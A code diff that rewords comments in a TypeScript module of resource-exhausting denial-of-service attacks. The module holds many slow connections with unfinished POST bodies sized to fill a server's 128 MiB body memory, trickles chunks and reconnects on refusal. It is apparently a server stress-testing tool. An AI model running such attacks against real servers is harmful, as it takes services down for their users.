@@ -4,34 +4,34 @@ import { keepConnections, pause } from '../connections';
 import { JSON_TYPE, rawRequest, withKey } from '../raw-request';
 
 /**
- * Sent at once of each large body, in bytes: with 4 KB for each request, 28 of them take up the 128 MiB that all bodies
- * may share, and leave less than one more request needs.
+ * Bytes of each large body that are sent at once. With 4 KB for each request, 28 of them use the 128 MiB for all
+ * bodies, and leave less than another request needs.
  */
 const LARGE_BEGIN = 4_789_300;
 
 /**
- * Sent at once of each body in chunks, in bytes: as much as a body may have, and then halves of it, to fill whatever room
- * is left.
+ * Bytes of each chunked body that are sent at once: the largest allowed body, and then halves of it, to fill the
+ * remaining memory.
  */
 const BEGINS = [
   ...Array.from({ length: 14 }, () => 9_900_000),
   ...Array.from({ length: 14 }, (_, index) => Math.ceil(8_000_000 / 2 ** index)),
 ];
 
-/** Between two pieces of a slow client, in ms. */
+/** The pause between two pieces of a slow client, in ms. */
 const PIECE_EVERY_MS = 1000;
 
 interface Hoard {
   readonly name: string;
   readonly title: string;
   readonly connections: number;
-  /** Sent at once. @param index of the connection */
+  /** The bytes that are sent at once. @param index the number of the connection */
   readonly head: (target: Target, index: number) => Buffer;
-  /** Sent again and again; nothing when absent. */
+  /** The bytes that are sent repeatedly; nothing if absent. */
   readonly piece?: string;
 }
 
-/** Many connections, each of which holds something and hardly uses it. */
+/** Attacks with many connections that each occupy a resource and hardly use it. */
 export const HOARDING: readonly Attack[] = (
   [
     {
@@ -90,12 +90,12 @@ export const HOARDING: readonly Attack[] = (
   ] satisfies Hoard[]
 ).map(hoard);
 
-/** Spaces, as a piece of a body that comes in chunks. */
+/** Spaces, as one chunk of a chunked body. */
 function chunk(length: number): Buffer {
   return Buffer.from(`${length.toString(16)}\r\n${' '.repeat(length)}\r\n`);
 }
 
-/** A request whose body is still to come. */
+/** The head of a request whose body is still missing. */
 function unfinished(path: string, headers: Readonly<Record<string, string>>): Buffer {
   return rawRequest('POST', path, headers);
 }
@@ -111,7 +111,7 @@ function hoard({ name, title, connections, head, piece }: Hoard): Attack {
           target.url,
           connections,
           (socket, _, index) => {
-            // Whatever is answered is a refusal: the client comes again.
+            // Every answer is a refusal, after which the client connects again.
             socket.once('data', () => socket.destroy());
             socket.write(heads[index] ?? '');
             if (piece !== undefined) void trickle(socket, piece, signal);
